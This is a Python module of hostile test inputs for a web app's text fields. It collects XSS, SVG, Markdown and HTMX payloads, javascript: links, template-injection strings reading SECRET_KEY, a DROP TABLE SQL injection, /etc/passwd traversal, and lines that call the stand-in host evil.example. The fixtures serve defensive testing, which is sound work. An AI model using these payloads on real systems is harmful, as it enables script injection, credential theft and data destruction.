"""What an attacker writes: texts that a page, parser or stream once fell for, and values that are no text."""

from typing import Any

from rooms.contract.lookalikes import problem_with_caption

EVIL = "https://evil.example"

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/x.png>",
    '<img src="x" onerror="alert(1)"',
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    f"<iframe src={EVIL}></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<form action={EVIL}><button>Sign in again</button></form>",
    f"<button formaction={EVIL}>Submit</button>",
    "<isindex action=javascript:alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- csrf token -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x/>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='java&#x0A;script:alert(1)'>click</a>",
    "<dialog open>Your session is over</dialog>",
    '<div id="ab-open-questions" class="ab-card">x</div>',
    '<p id="ab-announcer">x</p>',
]

ESCAPES = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "</pre></code></li></ul></fieldset></form><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    f"<svg><use href={EVIL}/x.svg#y /></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
]

HTMX = [
    f"<div hx-get={EVIL} hx-trigger=load></div>",
    '<div hx-get="/logout/" hx-trigger="load"></div>',
    "<div hx-post=/settings hx-trigger='every 1s'></div>",
    "<div hx-on:click=alert(1)>x</div>",
    '<div hx-on::load="alert(1)">x</div>',
    "<div hx-on='htmx:load: alert(1)'></div>",
    "<div data-hx-get=/ data-hx-trigger=load></div>",
    f"<div hx-ext=sse sse-connect={EVIL}></div>",
    "<div hx-vals='js:{x: alert(1)}' hx-get=/ hx-trigger=load></div>",
    '<div hx-swap-oob="true" id="ab-content">Gone</div>',
    '<template hx-swap-oob="outerHTML:#ab-layout"></template>',
    '<meta name="htmx-config" content=\'{"allowEval": true}\'>',
    'id="marks-q_0" data-revision="999999999"',
    'sse-swap="card-q_0" id="message-m_0"',
]

LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](//evil.example)",
    f"[click]({EVIL})",
    f'[click]({EVIL} "x\\" onclick=alert(1) x=\\"")',
    f"[https://your-portal.example/login]({EVIL}/login)",
    "<javascript:alert(1)>",
    f"<{EVIL}/?x=<script>>",
    f"[a]: {EVIL}\n\n[a]",
    "[a]: javascript:alert(1)\n\n[a]",
    "[click](?next=//evil.example)",
    "javascript:alert(1)",
    "javascript://x%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]

MARKDOWN = [
    f"![x]({EVIL}/x.png)",
    "![x](x onerror=alert(1))",
    f'![x"onerror="alert(1)]({EVIL})',
    f"[![x]({EVIL}/x.png)]({EVIL})",
    "**<img src=x onerror=alert(1)>**",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "    <img src=x onerror=alert(1)>",
    "> > > > > <script>alert(1)</script>",
    "- - - - - - x",
    "> " * 400 + "x",
    "*" * 500 + "x",
    "[" * 500 + "](",
    "`" * 501,
    "# Heading\n\nSetext\n======",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "~~**_`[x](javascript:alert(1))`_**~~",
    "\\<img src=x onerror=alert(1)\\>",
]

UNICODE = [
    "\u202egnp.live\u202c.exe",
    "\u202e\u202e\u202e never closed",
    "\u2066\u2067\u2068 isolates that never end",
    "\u200b\u200c\u200d\ufeffzero width",
    "\u2028line\u2029paragraph",
    "\x85next line\x0bvertical\x0cform feed",
    "\x1b[31mred\x1b[0m\x07bell",
    "\x01\x02\x03\x08\x7f\x9f",
    "e" + "\u0301" * 190,
    "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪👍🏿",
    "\U000e0001\U000e0041 tags",
    "\ufdd0\uffff\U0010ffff not characters",
    "\ufff9\ufffa\ufffb",
    "ﷺ﷽𒐫",
    "İıſK",
]

STREAM = [
    "x\n\nevent: reset\ndata: \n\n",
    "x\revent: reset\rdata: x\r\r",
    "x\r\n\r\nevent: count-lobby\r\ndata: 99\r\n\r\n",
    "data: x\nid: 999999999\nevent: question",
    "\nid: 999999999\n\n",
    "\r\rretry: 1\r\r",
    ": comment\n\n: comment",
    "\n" * 60 + "x",
]

CODE = [
    "{{ settings.SECRET_KEY }}",
    "{% include '/etc/passwd' %}",
    "{% csrf_token %}{{ request.user.password }}",
    "${alert(1)}${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %d %n {0} {name}",
    "'; DROP TABLE ask_bridge_question; --",
    '{"questions": "[]"}',
    "[[[[[[[[",
    "../../../../etc/passwd",
    "x; background: url(https://evil.example/x)",
    "</style><style>*{background:url(https://evil.example/x)}",
    "expression(alert(1))",
    "red;}*{display:none}",
    "<suggest>a</suggest><suggest>b</suggest>",
    "(Recommended)",
    "Other…",
]

# Stored texts must be storable: these are refused, in every field, with a reason.
NOT_STORABLE = ["\x00", "a\x00b", "\ud800", "\udfff\ud800", "x\udc00y"]

# At the limits of fields, and beyond all of them.
LONG = [
    "x" * 80,
    "x" * 200,
    "é" * 1_000,
    "<&>\"'" * 400,
    "𒐫" * 4_000,
    "x" * 8_000,
    "x\n" * 8_000,
    "x" * 20_000,
]

SHOWN = [*HTML, *ESCAPES, *SVG, *HTMX, *LINKS, *MARKDOWN, *UNICODE, *STREAM, *CODE]
TEXTS = [*SHOWN, *NOT_STORABLE, *LONG]

# In place of a text, or of anything else.
VALUES: list[Any] = [
    None,
    True,
    False,
    0,
    -1,
    -0.0,
    10**30,
    -(10**300),
    1e308,
    5e-324,
    [],
    {},
    [[]],
    [{}],
    [None],
    {"": ""},
    {"$ne": None},
    {"__proto__": {"x": 1}},
    ["x"] * 5_000,
    {str(number): number for number in range(2_000)},
]
# The same where JSON has no better word for it than these bytes.
RAW_VALUES = [
    b"1e400",
    b"-1e400",
    b"NaN",
    b"Infinity",
    b"9" * 5_000,
    b'"\\ud800"',
    b'"\xff\xfe"',
    b'"\xed\xa0\x80"',
]


def as_caption(text: str) -> str:
    """As much of it as a label or a header may hold."""
    return "".join(character for character in text if not problem_with_caption(f"x{character}"))


def as_name(text: str) -> str:
    """Its beginning as the name of an agent, of which something has to be left."""
    return text[:80] if as_caption(text[:80]).strip() else "bot"
